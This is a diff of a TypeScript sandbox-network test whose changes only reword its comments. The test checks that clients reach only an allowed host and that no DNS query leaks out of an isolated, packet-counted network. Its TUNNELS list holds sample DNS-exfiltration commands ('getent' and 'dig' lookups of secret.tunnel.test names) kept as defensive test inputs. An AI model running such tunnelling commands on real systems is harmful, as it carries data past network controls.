@@ -1,7 +1,7 @@
 /**
- * Every client by itself in a sandbox with a network: the allowed host is reached once the question about it is answered, the other one is not. Where it can be had
- * (root, tcpdump, ip), all of it in a network of its own whose every packet is counted: no query for a name leaves, nor does anything else.
- * Arguments: the user that runs the clients (a name; absent: whoever starts it), how many seconds a connection is held.
+ * Every client alone in a sandbox with a network reaches the allowed host once its question is answered, but not the other host. If possible
+ * (root, tcpdump, ip), in a separate network whose packets are counted: no name query leaves it, nor anything else.
+ * Arguments: the user that runs the clients (a name; by default the current user), and for how many seconds a connection is held.
  */
 
 import assert from 'node:assert/strict';
@@ -12,11 +12,11 @@ import { CLIENTS, noNetworkHere, type SandboxNetwork, startSandboxNetwork } from
 
 if (noNetworkHere) throw new Error(noNetworkHere);
 const STAGE = 'CODER_TEST_STAGE';
-/** A way out that leads nowhere: what is sent to it can be seen. */
+/** A network with a route that leads nowhere, so that everything sent out can be seen. */
 const NETWORK = `
 ip link set lo up && ip link add out type veth peer name far && ip link set out arp off addrgenmode none && ip link set far addrgenmode none &&
 ip addr add 192.0.2.77/24 dev out && ip link set out up && ip link set far up && ip route add default via 192.0.2.1 && exec "$@"`;
-/** Ways to carry something out by asking for a name, past the session's own resolver. */
+/** Attempts to smuggle data out through name queries, bypassing the session's resolver. */
 const TUNNELS = [
   'getent hosts secret-in-a-name.tunnel.test',
   'dig +time=1 +tries=1 secret.tunnel.test @192.0.2.53',
@@ -39,7 +39,7 @@ else {
   process.exitCode = status ?? 1;
 }
 
-/** As that user; what leaves is counted here. */
+/** Runs the clients as the given user and counts the packets that leave. */
 async function countWhile(): Promise<void> {
   const folder = mkdtempSync('/var/tmp/coder-packets-');
   try {
@@ -49,7 +49,7 @@ async function countWhile(): Promise<void> {
     const env = { ...process.env, [STAGE]: 'clients', HOME: '/nonexistent', TMPDIR: '/var/tmp' };
     const code = await new Promise((resolve) => spawn(program, rest, { stdio: 'inherit', env }).on('exit', resolve));
     assert.equal(code, 0);
-    spawnSync('sh', ['-c', 'getent hosts control.tunnel.test'], { timeout: 3000 }); // from outside it is seen
+    spawnSync('sh', ['-c', 'getent hosts control.tunnel.test'], { timeout: 3000 }); // the control: must be seen
     const { names, all } = await count();
     const isControl = (row: string) => row.includes('control.tunnel.test');
     assert.ok(names.some(isControl), 'a query that leaves would not be seen');
@@ -78,7 +78,7 @@ async function tryClient({ has, run, dialled }: SandboxNetwork, name: string): P
   const { port = 0, line = () => '', prints = /stand-in/ } = CLIENTS[name] ?? {};
   if (!has(name)) return console.log(`${name}: not installed`);
   const reached = await run(line('allowed.test'), async (host) => {
-    await new Promise((resolve) => setTimeout(resolve, Number(held) * 1000)); // somebody thinks about it
+    await new Promise((resolve) => setTimeout(resolve, Number(held) * 1000)); // as a person deciding would take
     return host.name === 'allowed.test';
   });
   assert.match(reached.text, prints, name);
@@ -91,13 +91,13 @@ async function tryClient({ has, run, dialled }: SandboxNetwork, name: string): P
   console.log(`${name}: held ${held} s and reached by ${port}, refused elsewhere`);
 }
 
-/** All that goes to another machine, and of it what asks for a name. Stops when it is called. */
+/** Starts counting; the returned function stops and resolves with all packets to other machines, and the name queries among them. */
 async function countPackets(folder: string): Promise<() => Promise<{ names: string[]; all: string[] }>> {
   const file = join(folder, 'packets');
   const capture = spawn('tcpdump', ['-i', 'out', '-U', '-w', file], { stdio: ['ignore', 'ignore', 'pipe'] });
-  await new Promise((resolve) => capture.stderr.once('data', resolve)); // it listens
+  await new Promise((resolve) => capture.stderr.once('data', resolve)); // once it listens
   return async () => {
-    await new Promise((resolve) => setTimeout(resolve, 500)); // what was sent last is written
+    await new Promise((resolve) => setTimeout(resolve, 500)); // until the last packets are written
     capture.kill('SIGINT');
     await new Promise((resolve) => capture.once('exit', resolve));
     assert.ok(readFileSync(file).length > 0);
